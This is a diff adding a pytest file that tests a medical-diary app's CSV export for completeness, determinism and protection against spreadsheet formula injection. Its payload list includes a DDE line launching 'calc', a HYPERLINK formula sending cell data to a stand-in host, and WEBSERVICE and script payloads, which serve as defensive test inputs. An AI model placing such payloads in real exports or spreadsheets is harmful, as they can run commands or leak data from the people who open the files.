@@ -1,0 +1,327 @@
+"""The tables hold what the database holds, and what a person typed stays text in a spreadsheet."""
+
+import csv
+import io
+import random
+import zipfile
+from collections import Counter
+from dataclasses import replace
+from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal
+from uuid import UUID, uuid4, uuid5
+
+import pytest
+import time_machine
+from django.db.models import F
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from accounts import models as people
+from diary import models as diary
+from diary.timeline import gaps, timeline
+from summary.as_csv import _sheet, as_csv, dictionary, guarded, plain
+from summary.records import records, shapes
+from summary.records.columns import columns
+from summary.tidy import tables
+from tests.config.world import make_diary
+from tests.summary.made_up import log, treat
+from tests.summary.office import needs_office, opened
+from tests.summary.whole import PAYLOADS, live
+
+TODAY = date(2026, 11, 20)
+FIRST = TODAY - timedelta(days=40)
+WHAT = {
+    "courses": (shapes.Course, "patient", {}),
+    "course_cycles": (shapes.Cycle, "course__patient", {"course": "course_id"}),
+    "course_doses": (shapes.Dose, "course__patient", {"course": "course_id"}),
+    "course_bag_plan": (shapes.BagPlan, "course__patient", {"course": "course_id"}),
+    "course_pump_events": (shapes.PumpEvent, "course__patient", {"course": "course_id"}),
+    "medicines": (shapes.Medicine, "patient", {}),
+    "contacts": (shapes.Contact, "patient", {}),
+    "card": (shapes.FamilyCard, "patient", {}),
+    "own_symptoms": (shapes.OwnSymptom, "patient", {}),
+    "questions": (shapes.Question, "patient", {}),
+    "shares": (shapes.Share, "patient", {}),
+    "check_ins": (shapes.CheckIn, "patient", {}),
+    "check_in_versions": (shapes.Version, "check_in__patient", {"check_in": "check_in_id"}),
+    "check_in_calls": (shapes.Call, "check_in__patient", {"check_in": "check_in_id"}),
+    "version_reports": (
+        shapes.Report,
+        "version__check_in__patient",
+        {"check_in": "version__check_in_id", "version": "version__number"},
+    ),
+    "version_findings": (
+        shapes.Finding,
+        "version__check_in__patient",
+        {"check_in": "version__check_in_id", "version": "version__number"},
+    ),
+    "looks": (shapes.Look, "patient", {}),
+}
+MODELS = {
+    "courses": diary.Course, "course_cycles": diary.Cycle, "course_doses": diary.Dose,
+    "course_bag_plan": diary.BagPlan, "course_pump_events": diary.PumpEvent,
+    "medicines": diary.Medicine, "contacts": diary.Contact, "card": diary.FamilyCard,
+    "own_symptoms": diary.OwnSymptom, "questions": diary.Question, "shares": people.Share,
+    "check_ins": diary.CheckIn, "check_in_versions": diary.Version, "check_in_calls": diary.Call,
+    "version_reports": diary.Report, "version_findings": diary.Finding, "looks": diary.Look,
+}  # fmt: skip
+SIGNS = "=+-@\t\r\0\n|%＝＋－＠−﹦﹢﹣﹫'\"\\"
+BLANKS = [
+    "",
+    " ",
+    "\u00a0",
+    "\u3000",
+    "\ufeff",
+    "\u200b",
+    "\u202e",
+    "\u2028",
+    "\t",
+    "\r\n",
+    "\0",
+    "'",
+]
+BODIES = [
+    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"click")', "SUM(A1:A9)",
+    "WEBSERVICE(A1)", "A1", "2+5+cmd|' /C calc'!A0", "10", "38.4", "1/2", "TRUE()", "IF(1,2,3)",
+    "<script>alert(1)</script>", "#let x = 1", "x\";=1+1;\"", "x\n=1+1", "{=1+1}", "2026-11-20",
+]  # fmt: skip
+
+
+def payloads(count: int) -> list[str]:
+    dice = random.Random(7)  # noqa: S311 (made-up data)
+    made = [f"{blank}{sign}{body}" for blank in BLANKS for sign in SIGNS for body in BODIES]
+    return dice.sample(made, count)
+
+
+def files_in(raw: bytes) -> dict[str, str]:
+    with zipfile.ZipFile(io.BytesIO(raw)) as folder:
+        return {name: folder.read(name).decode("utf-8-sig") for name in folder.namelist()}
+
+
+KINDS = {(table, column): kind for table, column, kind, *_ in dictionary()}
+
+
+def read_back(raw: bytes) -> dict[str, list[dict[str, object]]]:
+    """Read the tables as README.txt and dictionary.csv say."""
+    found = {}
+    for name, text in files_in(raw).items():
+        if name in ("README.txt", "dictionary.csv"):
+            continue
+        table = name.removesuffix(".csv")
+        lines = csv.DictReader(io.StringIO(text, newline=""))
+        found[table] = [
+            {column: value_of(cell, KINDS[table, column]) for column, cell in line.items()}
+            for line in lines
+        ]
+    return found
+
+
+def value_of(cell: str, kind: str):
+    if kind == "text":
+        return plain(cell)
+    if cell == "":
+        return None
+    match kind:
+        case "number":
+            return Decimal(cell)
+        case "day":
+            return date.fromisoformat(cell)
+        case "moment" | "local moment":
+            return datetime.fromisoformat(cell)
+        case "yes or no":
+            return {"true": True, "false": False}[cell]
+        case "id":
+            return UUID(cell)
+    return cell
+
+
+def stored(patient, table: str) -> Counter:
+    """Return what the database says of one table, as the file should."""
+    shape, mine, keys = WHAT[table]
+    names = [n for n in columns(shape) if n != "citations" and n not in ("answers", "strokes")]
+    rows = (
+        MODELS[table]
+        .objects.filter(**{mine: patient})
+        .annotate(**{f"key_{key}": F(path) for key, path in keys.items()})
+    )
+    return Counter(
+        frozenset(
+            [(n, as_said(patient, n, v)) for n, v in zip(names, row[: len(names)], strict=True)]
+            + [
+                (key, as_said(patient, key, v))
+                for key, v in zip(keys, row[len(names) :], strict=True)
+            ]
+        )
+        for row in rows.values_list(*names, *(f"key_{key}" for key in keys))
+    )
+
+
+def as_said(patient, name: str, value):
+    if name in ("by", "user"):
+        return uuid5(patient.pk, str(value))
+    if name in ("course", "check_in", "version"):
+        return as_key(name, value)
+    is_number = isinstance(value, int) and not isinstance(value, bool)
+    return Decimal(value) if is_number else value
+
+
+def said(patient, table: str, lines) -> Counter:
+    shape, _, keys = WHAT[table]
+    names = [n for n in columns(shape) if n != "citations" and n not in ("answers", "strokes")]
+    wanted = [*names, *keys]
+    return Counter(frozenset((n, as_key(n, line[n])) for n in wanted) for line in lines)
+
+
+def as_key(name: str, value):
+    return str(value) if name in ("course", "check_in", "version") and value is not None else value
+
+
+def full(patient, owner, writer, *, seed: int = 5):
+    treat(patient, TODAY)
+    log(patient, FIRST, TODAY, seed=seed, users=[owner, writer])
+    return patient
+
+
+@pytest.mark.parametrize("seed", [1, 2])
+def test_every_row_of_the_database_is_in_a_table_with_every_value(patient, owner, writer, seed):
+    """Hostile words in every text, and zones that changed, included."""
+    live(patient, [owner, writer], seed)
+    found = read_back(as_csv(records(patient)))
+    for table in WHAT:
+        assert said(patient, table, found[table]) == stored(patient, table), table
+    assert len(found["version_findings"]) > 10
+    assert any(text in PAYLOADS for text in (line["text"] for line in found["questions"]))
+
+
+def test_a_diary_with_a_row_of_every_kind_is_complete(stranger):
+    patient = make_diary(stranger, "Bo").patient
+    found = read_back(as_csv(records(patient)))
+    for table in WHAT:
+        assert found[table], table
+        assert said(patient, table, found[table]) == stored(patient, table), table
+    look = diary.Look.objects.get(patient=patient)
+    assert found["looks"][0]["strokes"] == "[[[1,2],[3,4]]]"
+    assert found["look_answers"][0]["asked"] == look.answers[0]["asked"]
+    cited = diary.Finding.objects.get(version__check_in__patient=patient).citations[0]
+    assert {n: found["finding_citations"][0][n] for n in cited} == cited
+
+
+def test_gaps_authors_and_zones_are_said(patient, owner, writer):
+    full(patient, owner, writer)
+    found = read_back(as_csv(records(patient, FIRST, TODAY)))
+    runs = gaps(timeline(patient, FIRST, TODAY).days)
+    assert [(g["first"], g["last"]) for g in found["gaps"]] == [(r.first, r.last) for r in runs]
+    assert {line["by_name"] for line in found["check_ins"]} == {"Dad", "Grandma"}
+    for line in found["check_ins"]:
+        assert line["at"] == line["at_local"]
+        assert line["at"].utcoffset() == timedelta(0)
+        assert line["at_local"].date() == line["local_day"]
+
+
+def test_the_same_diary_gives_the_same_bytes(patient, owner, writer):
+    full(patient, owner, writer)
+    found = records(patient)
+    files = set()
+    for day in (1, 2):
+        with time_machine.travel(datetime(2026, 12, day, 12, tzinfo=UTC)):
+            files.add(as_csv(found))
+    assert len(files) == 1
+
+
+def test_every_column_has_a_meaning_and_numbers_have_units():
+    for table, column, kind, unit, meaning, _ in dictionary():
+        assert meaning.endswith("."), (table, column)
+        assert not ("temperature" in column and not unit), (table, column)
+        assert kind
+    assert len(tables()) > 20
+
+
+@settings(max_examples=1000, deadline=None)
+@given(st.text())
+@example("'")
+@example("'\\0")
+@example("\0\\0'")
+@example("\\\0")
+def test_a_guarded_text_is_the_same_once_the_mark_is_off(text):
+    assert plain(guarded(text)) == text
+    assert "\0" not in guarded(text)
+
+
+def test_no_payload_begins_a_cell():
+    for text in payloads(2000):
+        assert guarded(text)[0] not in "=+-@\t\r\0＝＋－＠", text
+
+
+@pytest.mark.parametrize("blank", BLANKS)
+@pytest.mark.parametrize("sign", "=+-@＝－﹢")
+def test_blanks_hide_no_sign(blank, sign):
+    assert guarded(f"{blank}{sign}A1")[0] == "'"
+
+
+@pytest.mark.parametrize("text", ["Slept badly.", "5 ml", "Mum's idea", "ärztin", "a=b", "38.4 °C"])
+def test_ordinary_words_stay_as_they_are(text):
+    assert guarded(text) == text
+
+
+def test_a_phone_number_keeps_its_nought_and_plus():
+    assert (guarded("0123 456"), guarded("+44 123")) == ("'0123 456", "'+44 123")
+
+
+def spreadsheet(tmp_path, found) -> dict[str, list]:
+    for name, text in files_in(as_csv(found)).items():
+        if name in ("questions.csv", "version_reports.csv", "contacts.csv"):
+            (tmp_path / name).write_text(text, encoding="utf-8-sig", newline="")
+    return opened(tmp_path)
+
+
+def test_a_spreadsheet_finds_no_formula_in_two_thousand_payloads(patient, owner, writer, tmp_path):
+    needs_office()
+    full(patient, owner, writer)
+    found = records(patient)
+    now = datetime(2026, 11, 20, tzinfo=UTC)
+    by = found.authors[0].id
+    asked = tuple(shapes.Question(uuid4(), text, by, now, None) for text in payloads(2000))
+    sheets = spreadsheet(tmp_path, replace(found, questions=asked))
+    cells = [cell for rows in sheets.values() for row in rows for cell in row]
+    assert sum(is_formula for _, _, is_formula in cells) == 0
+    heading = [text for _, text, _ in sheets["questions"][0]]
+    questions = [row[heading.index("text")] for row in sheets["questions"][1:]]
+    assert len(questions) == 2000
+    assert {kind for kind, _, _ in questions} == {"s"}
+    temperatures(sheets["version_reports"], found)
+
+
+def temperatures(rows, found):
+    """Every temperature is a number to the spreadsheet, and the one that was typed."""
+    heading = [text for _, text, _ in rows[0]]
+    place = heading.index("temperature")
+    numbers = [row[place] for row in rows[1:] if len(row) > place and row[place][1]]
+    assert {kind for kind, _, _ in numbers} == {"n"}
+    typed = [
+        report.temperature
+        for one in found.check_ins
+        for version in one.versions
+        for report in version.reports
+        if report.temperature is not None
+    ]
+    assert [float(text) for _, text, _ in numbers] == [float(value) for value in typed]
+    assert len(typed) > 20
+
+
+def test_without_the_guard_the_same_spreadsheet_finds_formulas(tmp_path):
+    """Locks off: the payloads are real."""
+    needs_office()
+    lines = [[text] for text in payloads(2000)]
+    text = io.StringIO(newline="")
+    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(lines)
+    raw = text.getvalue().replace("\0", "")
+    (tmp_path / "raw.csv").write_text(raw, encoding="utf-8-sig", newline="")
+    cells = [cell for row in opened(tmp_path)["raw"] for cell in row]
+    assert sum(is_formula for _, _, is_formula in cells) > 10
+
+
+def test_numbers_stand_bare_and_all_else_in_quotes():
+    assert (
+        _sheet(["a"], [[Decimal("38.0"), 3, "x", None, True]]).splitlines()[1]
+        == '38.0,3,"x","","true"'
+    )
